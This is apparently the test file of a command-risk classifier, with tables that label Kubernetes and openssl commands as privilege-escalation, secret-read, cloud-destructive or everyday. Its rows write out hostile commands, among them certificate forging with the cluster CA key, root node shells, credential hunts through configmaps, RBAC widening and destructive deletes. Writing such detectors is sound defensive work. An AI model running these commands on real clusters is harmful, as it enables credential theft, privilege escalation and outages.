// openssl signing with a cluster CA's key (/etc/kubernetes/pki/*ca.key: a
// forged client certificate). Reading certificates, renewing the node's
// own and upgrades stay everyday here.
func TestClusterCredentialsMinted(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{"kubeadm kubeconfig user --client-name=admin --org=system:masters", PrivilegeEscalation},
		// Join tokens stay everyday: heldout2 j0306 labels kubeadm token
		// create so, and teardown_test's TestClusterNodesReset keeps
		// kubeadm token list unmarked; k3s' and microk8s' are the same.
		{"kubeadm token create --print-join-command", ""},
		{"kubeadm token list", ""},
		{"k3s token create --ttl 1h", ""},
		{"microk8s add-node", ""},
		{"microk8s config", SecretRead},
		{"openssl x509 -req -in admin.csr -CA /etc/kubernetes/pki/ca.crt -CAkey /etc/kubernetes/pki/ca.key -CAcreateserial -out admin.crt -days 365", PrivilegeEscalation},
		{"openssl x509 -req -in e.csr -CA /etc/kubernetes/pki/etcd/ca.crt -CAkey=/etc/kubernetes/pki/etcd/ca.key -out e.crt", PrivilegeEscalation},
		{"microk8s config > ~/.kube/config", ""},
		{"openssl x509 -in /etc/kubernetes/pki/ca.crt -noout -text", ""},
		{"openssl x509 -req -in my.csr -CA ./ca.crt -CAkey ./ca.key -out my.crt", ""},
		{"kubeadm certs check-expiration", ""},
		{"kubeadm token create --help", ""},
		{"microk8s status", ""},
		{"k3s check-config", ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestNodeShell: a root shell on a cluster node through a privileged pod.
// kubectl-node-shell's README (the krew plugin node-shell): "start a
// root shell in the node's host OS running", a privileged pod in the
// host's namespaces with nsenter -t 1 (as "kubectl debug node/NAME",
// already privilege-escalation); its binary kubectl-node_shell the same
// (heldout12's y0909; README: "kubectl node-shell NODE
// privilege-escalation"). Its help and the node's listing stay everyday.
func TestNodeShell(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`kubectl node-shell aks-nodepool1-17107004-vmss000000`, PrivilegeEscalation},
		{`kubectl node-shell --image alpine node1`, PrivilegeEscalation},
		{`kubectl node-shell node1 -- cat /etc/shadow`, PrivilegeEscalation},
		{`kubectl-node_shell node1`, PrivilegeEscalation},
		{`kubectl debug node/node1 -it --image=ubuntu`, PrivilegeEscalation},
		{`kubectl node-shell --help`, ""},
		{`kubectl node-shell -h`, ""},
		{`kubectl get nodes -o wide`, ""},
		{`kubectl krew install node-shell`, ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestNodeCloudProviderSecrets: a node's cloud-provider configuration
// holds the cluster's cloud credential: AKS's /etc/kubernetes/azure.json
// (the Azure cloud provider's config: aadClientId and aadClientSecret, the
// service principal's secret; heldout12's y0173 reads it through a host
// mount at /data), and the OpenStack cloud provider's cloud.conf or
// cloud-config ([Global] username and password; cloud-provider-openstack's
// docs). Printing one is secret-read, as the kubelet's kubeconfig;
// the node's certificates stay everyday (README).
func TestNodeCloudProviderSecrets(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`cat  /data/etc/kubernetes/azure.json`, SecretRead},
		{`cat /etc/kubernetes/azure.json`, SecretRead},
		{`jq .aadClientSecret /etc/kubernetes/azure.json`, SecretRead},
		{`cat /host/etc/kubernetes/cloud.conf`, SecretRead},
		{`cat /etc/kubernetes/cloud-config`, SecretRead},
		{`cat /etc/kubernetes/pki/ca.crt`, ""},
		{`ls -la /etc/kubernetes/`, ""},
		{`cat azure.json`, ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestClusterObjectsHuntedForSecrets: a cluster's objects that hold
// plain values (configmaps' data, pods' and workloads' env) printed in
// full (kubectl get -o json|yaml|jsonpath, kubectl describe) and filtered
// by grep or jq for credential words (pass, secret, token, key, …):
// credentials searched for and printed, secret-read (README's heldout12
// call; y0390, y0406, y0699), as "strings core | grep -i pass". The
// everyday forms beside them: the same dump unfiltered or filtered for
// other words, names-only listings, and roles searched for the word
// "secrets" (a rule's resource name, no value: y0577, y0823).
func TestClusterObjectsHuntedForSecrets(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`kubectl get configmaps --all-namespaces -o json | jq -r '.items[].data | select(. != null)' | awk '{print(tolower($0))}' | jq -r 'with_entries( select(.key|(contains("pass") or contains("secret") or contains("token"))))'`, SecretRead},
		{`kubectl get pods --all-namespaces -o json | jq -r '.items[].spec.containers[].env | select(. != null)' |  awk '{print(tolower($0))}' | jq -r '.[] | select(.name | (contains("pass") or contains("secret") or contains("token")))'`, SecretRead},
		{`kubectl get cm -A -o yaml | grep -i password`, SecretRead},
		{`kubectl get deployments -n prod -oyaml | grep -iE 'token|secret'`, SecretRead},
		{`oc get configmap app-config -o jsonpath='{.data}' | grep -i api_key`, SecretRead},
		{`kubectl describe configmap app-config | grep -i pass`, SecretRead},
		// Everyday.
		{`kubectl get configmaps -A -o json | jq '.items[].metadata.name'`, ""},
		{`kubectl get pods -A -o json | jq -r '.items[].spec.containers[].image'`, ""},
		{`kubectl get pods | grep -i token`, ""},
		{`kubectl get roles --all-namespaces -o json | jq -r '.items[] | select(.rules[].resources | index( "secrets" )|select(. != null)).metadata.name'`, ""},
		{`kubectl get clusterroles -o json | jq -r '.items[] | select(.rules[].resources | index( "secrets" )|select(. != null)).metadata.name'`, ""},
		{`kubectl get configmaps -A`, ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestClusterServiceAccountCreated: a Kubernetes service account is an
// identity made in the cluster (kubectl create serviceaccount, its alias
// sa; oc the same), as gcloud iam service-accounts create and aws iam
// create-user are cloud ones (already privilege-escalation). The README's
// heldout12 call: "kubectl create serviceaccount|rolebinding
// privilege-escalation (as cloud service accounts and bindings)" (y0003);
// round 5's "only bindings grant" reading made it everyday before. Dry
// runs (--dry-run, --dry-run=client|server: kubectl create's reference,
// nothing sent; y0078), help and listings stay everyday.
func TestClusterServiceAccountCreated(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`kubectl create serviceaccount --namespace psp-aks nonadmin-user`, PrivilegeEscalation},
		{`kubectl create sa ci`, PrivilegeEscalation},
		{`kubectl -n prod create serviceaccount deployer`, PrivilegeEscalation},
		{`oc create serviceaccount robot`, PrivilegeEscalation},
		{`oc create sa robot -n ci`, PrivilegeEscalation},
		{`gcloud iam service-accounts create ci`, PrivilegeEscalation},
		{`kubectl create serviceaccount ci --dry-run=client -o yaml`, ""},
		{`kubectl create serviceaccount rbac-sample-sa --dry-run=true -o yaml > service-account.yaml`, ""},
		{`kubectl create sa ci --dry-run`, ""},
		{`kubectl create serviceaccount --help`, ""},
		{`kubectl get serviceaccounts -A`, ""},
		{`kubectl describe sa default`, ""},
		{`kubectl create namespace ci`, ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestManifestNamedForEscalationControl: the Kubernetes Pod Security
// Standards (kubernetes.io/docs/concepts/security/pod-security-standards)
// keep two controls apart. "Privileged Containers" (Baseline:
// securityContext.privileged) hands the pod the node and is what a
// manifest named "privileged" or "priv" makes (badPods' priv-exec-pod.yaml,
// heldout11's x1346). "Privilege Escalation" (Restricted:
// allowPrivilegeEscalation, "such as via set-user-ID or set-group-ID file
// mode") is about a process inside the container gaining its own
// container's root; Baseline allows it and nothing of the node is handed
// over. A manifest named for that control ("privileged-esc",
// "priv-escalation") names no privileged pod (heldout12's y0082, y0502,
// labelled everyday: "a plain pod whose image shows setuid escalation
// inside the container, nothing privileged, no host mount").
func TestManifestNamedForEscalationControl(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`kubectl apply -f 06-privileged-esc.yaml`, ""}, // y0082
		{`kubectl apply -f 07-privileged-esc.yaml`, ""}, // y0502
		{`kubectl apply -f labs/priv-escalation/pod.yaml`, ""},
		{`kubectl create -f privileged-escalation-demo.yml`, ""},
		// The privileged control, or a node folder, still named.
		{`kubectl apply -f privileged-pod.yaml`, PrivilegeEscalation},                     // y0055
		{`kubectl apply -f ./manifests/priv/pod/priv-exec-pod.yaml`, PrivilegeEscalation}, // x1346
		{`kubectl apply -f privileged-esc-hostpath.yaml`, PrivilegeEscalation},
		{`kubectl apply -f esc-privileged.yaml`, PrivilegeEscalation},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestKubectlDeleteWithoutName: kubectl delete's synopsis (kubectl
// delete --help, kubernetes.io/docs/reference/kubectl/generated/
// kubectl_delete) is "([-f FILENAME] | [-k DIRECTORY] | TYPE [(NAME | -l
// label | --all)])"; given a type and none of name, selector, --all or
// file, kubectl refuses ("resource(s) were provided, but no name was
// specified") and deletes nothing. --force and --grace-period change how a
// named pod goes, not which. A name, a TYPE/NAME word, a selector, --all
// or a word the line does not show keep the delete marked.
func TestKubectlDeleteWithoutName(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`kubectl delete pod --force --grace-period 0`, ""}, // heldout12 y1464
		{`kubectl delete pods`, ""},
		{`kubectl -n prod delete deployment --wait=false`, ""},
		{`kubectl delete pod web-1 --force --grace-period 0`, CloudDestructive},
		{`kubectl delete pod --force --grace-period 0 web-1`, CloudDestructive},
		{`kubectl delete pods --all`, CloudDestructive},
		{`kubectl delete pods -l app=web`, CloudDestructive},
		{`kubectl delete pods -lapp=web`, CloudDestructive},
		{`kubectl delete pods --field-selector=status.phase=Failed`, CloudDestructive},
		{`kubectl delete -f deploy.yaml`, CloudDestructive},
		{`kubectl delete pod/web-1`, CloudDestructive},
		{`kubectl delete ns prod`, CloudDestructive},
		{`kubectl delete pod "$(kubectl get pods -o name | head -1)"`, CloudDestructive},
		{`k8s-unused-secret-detector --namespace demo | kubectl delete secrets -n demo`, CloudDestructive}, // heldout3 k0088
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestWorkloadPatchedOutOfService: kubectl patch (kubectl reference:
// strategic merge, merge and JSON patches, -p/--patch) that does what
// README's heldout12 call makes cloud-destructive: a workload's replicas
// set to 0 (as "kubectl scale --replicas=0") and a service's ports emptied
// ("kubectl patch svc that removes every port"; heldout12's y1477). oc
// patch takes the same patches. Other patches (an image, a service type,
// replicas 3, a label) stay everyday (dev i0280, heldout10 w0200).
func TestWorkloadPatchedOutOfService(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`kubectl patch svc api-service -p '{"spec":{"ports":[]}}'`, CloudDestructive}, // y1477
		{`kubectl patch service api -n prod --type merge -p '{"spec": {"ports": []}}'`, CloudDestructive},
		{`kubectl patch svc api --type json -p '[{"op":"remove","path":"/spec/ports"}]'`, CloudDestructive},
		{`kubectl patch deployment web -p '{"spec":{"replicas":0}}'`, CloudDestructive},
		{`kubectl patch deploy/web --patch '{"spec": {"replicas": 0}}'`, CloudDestructive},
		{`kubectl patch statefulset db --type json -p '[{"op":"replace","path":"/spec/replicas","value":0}]'`, CloudDestructive},
		{`kubectl patch rs web -p 'spec: {replicas: 0}'`, CloudDestructive},
		{`oc patch dc/web -p '{"spec":{"replicas":0}}'`, CloudDestructive},
		// Everyday: another field, replicas left running.
		{`kubectl patch deployment web -p '{"spec":{"replicas":3}}'`, ""},
		{`kubectl patch deployment web -p '{"spec":{"replicas":10}}'`, ""},
		{`kubectl patch svc web -p '{"spec": {"type": "LoadBalancer"}}'`, ""},
		{`kubectl patch svc web -p '{"spec":{"ports":[{"port":80,"targetPort":8080}]}}'`, ""},
		{`kubectl patch po demo --type 'json' --patch '[{"op": "replace", "path": "/spec/containers/0/image", "value":"nginx"}]'`, ""},
		{`kubectl patch deployment web --dry-run=client -p '{"spec":{"replicas":0}}'`, ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestNodesTaintedNoExecute: kubectl taint (kubectl reference, "kubectl
// taint"; Kubernetes' "Taints and Tolerations": "NoExecute: pods that do
// not tolerate the taint are evicted immediately") with the NoExecute
// effect empties the node of its pods, as "kubectl drain" does (README's
// heldout12 call: drain is cloud-destructive); OpenShift's "oc adm taint
// nodes" takes the same arguments. NoSchedule and PreferNoSchedule only
// keep new pods off, a trailing "-" removes a taint, and cordon marks
// the node unschedulable: everyday.
func TestNodesTaintedNoExecute(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`kubectl taint nodes node1 key1=value1:NoExecute`, CloudDestructive},
		{`kubectl taint nodes --all dedicated=maintenance:NoExecute --overwrite`, CloudDestructive},
		{`kubectl taint node -l pool=web drain=now:NoExecute`, CloudDestructive},
		{`oc adm taint nodes node1 key=value:NoExecute`, CloudDestructive},
		// Everyday: scheduling only, a taint removed, help.
		{`kubectl taint nodes node1 key1=value1:NoSchedule`, ""},
		{`kubectl taint nodes node1 key1=value1:PreferNoSchedule`, ""},
		{`kubectl taint nodes node1 key1=value1:NoExecute-`, ""},
		{`kubectl taint nodes node1 key1:NoExecute-`, ""},
		{`kubectl cordon node1`, ""},
		{`kubectl taint --help`, ""},
		{`kubectl taint nodes node1 key1=value1:NoExecute --dry-run=client -o yaml`, ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestClusterRightsWidened: a cluster's access rules widened by the forms
// the other rules did not read, each privilege-escalation as "kubectl
// create clusterrolebinding" and a binding patched already are:
// OpenShift's "oc adm policy add-scc-to-user|add-scc-to-group" (OpenShift
// "Managing security context constraints": the SCC lets the subject's
// pods run privileged or as any uid) and "add-role-to-user|group",
// "add-cluster-role-to-user|group" (OpenShift "Using RBAC": a binding
// made); a Role or ClusterRole patched with a wildcard, the secrets
// resource, or the escalate, bind or impersonate verbs (Kubernetes' RBAC
// "Privilege escalation prevention": what every bound subject may do
// grows); and a namespace's pod-security.kubernetes.io/enforce label
// removed (Pod Security Admission: the cluster's default, privileged
// unless configured, then applies — as relabelling it privileged, which
// kubeHostAccessPatched reads). Queries, removals of rights, other labels and
// patches of a role's metadata stay everyday.
func TestClusterRightsWidened(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`oc adm policy add-scc-to-user privileged -z default`, PrivilegeEscalation},
		{`oc adm policy add-scc-to-group anyuid system:authenticated`, PrivilegeEscalation},
		{`oc adm policy add-cluster-role-to-user cluster-admin eve`, PrivilegeEscalation},
		{`oc adm policy add-role-to-user admin eve -n prod`, PrivilegeEscalation},
		{`kubectl patch clusterrole view -p '{"rules":[{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}]}'`, PrivilegeEscalation},
		{`kubectl patch role dev -n prod --type json -p '[{"op":"add","path":"/rules/-","value":{"apiGroups":[""],"resources":["secrets"],"verbs":["get"]}}]'`, PrivilegeEscalation},
		{`kubectl patch clusterrole/ops -p '{"rules":[{"apiGroups":["rbac.authorization.k8s.io"],"resources":["clusterroles"],"verbs":["escalate","bind"]}]}'`, PrivilegeEscalation},
		{`kubectl label ns prod pod-security.kubernetes.io/enforce-`, PrivilegeEscalation},
		{`kubectl label namespace prod pod-security.kubernetes.io/enforce- --overwrite`, PrivilegeEscalation},
		// Everyday: queries, rights removed, metadata, other labels.
		{`oc adm policy who-can get pods`, ""},
		{`oc adm policy remove-scc-from-user privileged -z default`, ""},
		{`kubectl patch clusterrole view -p '{"metadata":{"labels":{"team":"a"}}}'`, ""},
		{`kubectl patch role dev -p '{"rules":[{"apiGroups":[""],"resources":["pods"],"verbs":["get","list"]}]}'`, ""},
		{`kubectl label ns prod pod-security.kubernetes.io/enforce=restricted`, ""},
		{`kubectl label ns prod team-`, ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestKubeSecretByTypeName: kubectl's reference (kubectl get: "kubectl
// get TYPE/NAME ...", e.g. "kubectl get pod/example-pod1
// replicationcontroller/example-rc1") names a resource as TYPE/NAME as
// well as TYPE NAME, so "kubectl get secrets/db-user-pass" reads the
// same secret as "kubectl get secret db-user-pass": printed with an
// output format that holds its data it is secret-read (README: secret
// values printed secret-read), as the TYPE NAME form already is.
// heldout13's z0835 and z0857 ("kubectl get secrets/db-user-pass
// --template={{.data.key}} | base64 -d", secret-read). The secret's name
// alone, and other resources' TYPE/NAME, stay everyday.
func TestKubeSecretByTypeName(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`kubectl get secrets/db-user-pass --template={{.data.CF_API_TOKEN}} | base64 -d`, SecretRead}, // z0835
		{`kubectl get secrets/db-user-pass --template={{.data.key}} | base64 -d`, SecretRead},          // z0857
		{`kubectl get secret/db -o jsonpath='{.data.password}'`, SecretRead},
		{`kubectl get secret/db -o yaml`, SecretRead},
		{`kubectl -n prod get secret/db -o json`, SecretRead},
		{`kubectl get -n prod secrets/db -o go-template='{{.data.key}}'`, SecretRead},
		// Everyday: names only, other resources, a manifest's path.
		{`kubectl get secret/db`, ""},
		{`kubectl get secrets/db -o name`, ""},
		{`kubectl get configmap/app -o yaml`, ""},
		{`kubectl get deploy/secrets -o yaml`, ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}
